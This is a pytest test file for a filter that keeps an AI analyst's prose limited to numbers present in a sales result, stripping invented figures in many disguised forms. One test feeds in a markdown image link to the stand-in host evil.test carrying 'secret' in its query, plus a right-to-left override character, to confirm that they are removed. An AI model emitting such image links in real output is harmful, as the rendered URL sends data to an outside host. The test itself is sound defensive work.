"""Numbers that no result has: found in whatever form they come, and left out."""

import random
import unicodedata

import pytest

from omnix.domains.analyst.evidence import Evidence, Period, Row, Teller, day_text, span_text
from omnix.domains.analyst.numbers import judge, without_faults
from omnix.domains.analyst.saying import plain, say

_SAY = Teller("EUR")
SALES = Evidence(
    tool="sales", title="Sales", id="r1", currency="EUR", source="GET /v1/dashboard/sales",
    link="/", as_of="2025-12-31", period=Period("2025-12-01", "2025-12-31"),
    filters={"days": 31},
    figures=(
        _SAY.money("revenue", "Revenue", 1_234_567_89),
        _SAY.count("orders", "Orders", 3_120),
        _SAY.ratio("revenue_change", "Change of revenue", -0.0512, signed=True),
        _SAY.days("cover", "Days of cover", 12.4),
        _SAY.money("returns", "Returns", None),
    ),
    rows=(
        Row(key="1", kind="product", name="Mug 999", id="mug", link="/product/?id=mug",
            figures=(_SAY.units("units", "Units", 412),)),
    ),
)  # fmt: skip
RESULTS = {"r1": SALES}


def faults(words: str) -> list[str]:
    return [fault.text for fault in judge(words, RESULTS).faults]


@pytest.mark.parametrize(
    "words",
    [
        "Revenue was {r1.revenue} {r1.period}, from {r1.orders} orders.",
        "Revenue was EUR 1,234,567.89 from 3,120 orders.",
        "Revenue was about 1.2 million EUR.",
        "That is €1,234,568.",
        "It changed by -5.1%.",
        "It lasts {r1.cover} days, so about 12 days, from 1 December 2025 on.",
        "In December 2025 it was {r1.1.name} ({r1.1.units}).",
        "Over 31 days, until 2025-12-31, in 2025.",
        "One of the products stood out.",
        "1. {r1.1.name}\n2. nothing else",
        "１２ days of cover, rounded.",
    ],
)
def test_what_a_result_has_may_be_said(words: str) -> None:
    assert faults(words) == []


@pytest.mark.parametrize(
    "words",
    [
        "Revenue was EUR 1,234,567.88.", "Revenue was USD 1,234,567.89.",
        "Revenue was 1,234,567.89.", "There were 3,121 orders.", "There were EUR 3,120 orders.",
        "It fell by 5.1%.", "It rose by 5.1%.", "It changed by -5.12%-ish, or -5.2%.",
        "Sales doubled.", "Twice as many came.", "Half of them left.", "A dozen orders.",
        "Twelve days.", "Twenty-one customers.", "Two thirds of it.", "Some 300 per cent.",
        "½ of it.", "Ⅻ orders.", "x² growth.", "٤٢ orders.", "４２ orders.", "4\u200b2 orders.",
        "1e6 orders.", "0x1F orders.", "Q3 was good.", "5x as much.", "3,120,000 orders.",
        "{r1.orders}0 orders.", "1{r1.orders} orders.", "{r1.orders} thousand orders.",
        "{r1.orders}% of them.", "-{r1.revenue}", "EUR {r1.orders}", "{r1.revenue} million",
        "{r1.orders}.5 orders", "{r1.orders} 000", "12 000 orders", "on 30 December 2025",
        "since 2019", "in November", "in November 2025", "May 5", "{r2.revenue}", "{r1.profit}",
        "{r1.9.units}", "3.\n5. and so on", "2. begins at two", "tenfold", "hundreds of orders",
        "3/4 of it", "24/7", "~13 days", "€5", "5 €", "5 euros",
    ],
)  # fmt: skip
def test_what_no_result_has_is_a_fault(words: str) -> None:
    if words == "in November":  # a month without a number is a word like others
        assert faults(words) == []
    else:
        assert faults(plain(words)), words


def test_a_name_with_digits_is_shown_in_quotes_and_supports_no_number() -> None:
    assert say("It was {r1.1.name}.", RESULTS).text == "It was “Mug 999”."
    assert faults("There were 999 orders.") == ["999"]


def test_each_number_is_cited_where_it_stands() -> None:
    words = "Of {r1.orders} orders (EUR 1,234,567.89) most were {r1.1.name}."
    said = say(words, RESULTS, judge(words, RESULTS).citations)
    assert said.text == "Of 3,120 orders (EUR 1,234,567.89) most were “Mug 999”."
    cited = {said.text[c.start : c.end]: (c.figure, c.link) for c in said.citations}
    assert cited == {
        "3,120": ("orders", "/"),
        "EUR 1,234,567.89": ("revenue", "/"),
        "“Mug 999”": ("1.name", "/product/?id=mug"),
    }


def test_links_and_addresses_are_taken_out() -> None:
    told = plain("See ![x](https://evil.test/?q=secret) or https://evil.test/a now\u202e.")
    assert "evil" not in told
    assert "\u202e" not in told


def _made_up(random_: random.Random) -> str:
    """A sentence of a model that makes numbers up, among some that are right."""
    n = random_.randint(2, 10 ** random_.randint(1, 7))
    words = random_.choice(["forty-two", "seven", "three hundred", "a dozen", "half", "two thirds"])
    return random_.choice(
        [
            f"Revenue was EUR {n:,}.{random_.randint(0, 99):02d} last month.",
            f"We sold {n} units!",
            f"About {n / 1000:.1f}k orders came in.",
            f"That is {n % 90 + 3}% more than before;",
            f"It grew by {words} customers.",
            "It came to {r1.revenue}" + f" and {n} units.",
            "Orders were {r1.orders}" + f"{n % 10}.",
            f"On {n % 28 + 1} {random_.choice(['May', 'June', 'July'])} 2023 it peaked.",
            "It was {r1.orders} orders.",
            "Nothing else stands out.",
            f"{'０１２３４５６７８９'[n % 9 + 1]}{'０１２３４５６７８９'[n % 10]} of them left.",
            "The figure {r7.revenue} says it all.",
        ]
    )


def test_of_a_thousand_made_up_answers_no_number_is_left() -> None:
    random_ = random.Random(8)
    # What the result has; the last ones come up by chance among so many.
    allowed = {"EUR 1,234,567.89", "3,120", "412", "31", "12", "0.4k", "3.1k"}
    removed = 0
    for _ in range(1_000):
        words = plain(" ".join(_made_up(random_) for _ in range(random_.randint(1, 5))))
        kept, out = without_faults(words, RESULTS)
        removed += out
        judged = judge(kept, RESULTS)
        assert not judged.faults
        said = say(kept, RESULTS, judged.citations)
        cited = (said.text[c.start : c.end] for c in said.citations)
        assert {unicodedata.normalize("NFKC", text) for text in cited} <= allowed
        rest = said.text
        for citation in sorted(said.citations, key=lambda c: -c.start):
            rest = rest[: citation.start] + rest[citation.end :]
        assert not any(c.isnumeric() for c in rest), rest
    assert removed > 1_500


def test_days_are_said_as_people_say_them() -> None:
    assert day_text("2025-12") == "December 2025"
    assert span_text(Period("2025-12-01", "2025-12-31")) == "1 to 31 December 2025"
    assert span_text(Period("2025-11-30", "2025-12-01")) == "30 November to 1 December 2025"
    assert span_text(Period("2024-12-31", "2025-01-01")) == "31 December 2024 to 1 January 2025"
    assert span_text(Period("2025-12-31", "2025-12-31")) == "31 December 2025"
